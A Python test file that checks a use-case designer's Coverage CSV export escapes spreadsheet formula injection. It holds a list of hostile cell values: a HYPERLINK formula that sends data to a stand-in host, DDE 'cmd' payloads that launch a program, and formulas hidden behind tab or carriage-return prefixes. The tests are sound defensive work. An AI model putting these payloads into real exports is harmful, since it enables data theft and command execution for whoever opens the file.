"""Issue 15, point 4: no Coverage CSV cell can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from ucdesigner.io.coverage_csv import coverage_csv
from ucdesigner.model import Actor, Association, Document, UseCase
from ucdesigner.model.coverage import coverage
from ucdesigner.model.journey import JourneyStep, Kpi

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_document() -> Document:
    doc = Document()
    doc.add(
        Actor(id="a", name=HOSTILE[0]),
        *[
            UseCase(
                id=f"u{n}",
                name=text,
                journey=JourneyStep(
                    stage="stage_purchase",
                    kpis=(Kpi(name=text, perspective="financial", target=-3, current=2.5),),
                ),
            )
            for n, text in enumerate(HOSTILE)
        ],
        *[Association(id=f"r{n}", source="a", target=f"u{n}") for n in range(len(HOSTILE))],
    )
    return doc


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_no_cell_starts_a_formula_and_numbers_stay_numbers() -> None:
    written = cells(coverage_csv(coverage(hostile_document())))
    assert written, "the CSV has cells"
    for cell in written:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell == "-3", cell
    assert "'" + HOSTILE[0] in written  # shown as typed, behind the apostrophe
    assert "-3" in written and "2.5" in written


def test_the_rule_itself() -> None:
    from ucdesigner.io.coverage_csv import spreadsheet_safe

    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("-1.5e3") == "-1.5e3"
    assert spreadsheet_safe("+7") == "+7"
    assert spreadsheet_safe("- not a number") == "'- not a number"
    assert spreadsheet_safe("Buy") == "Buy"
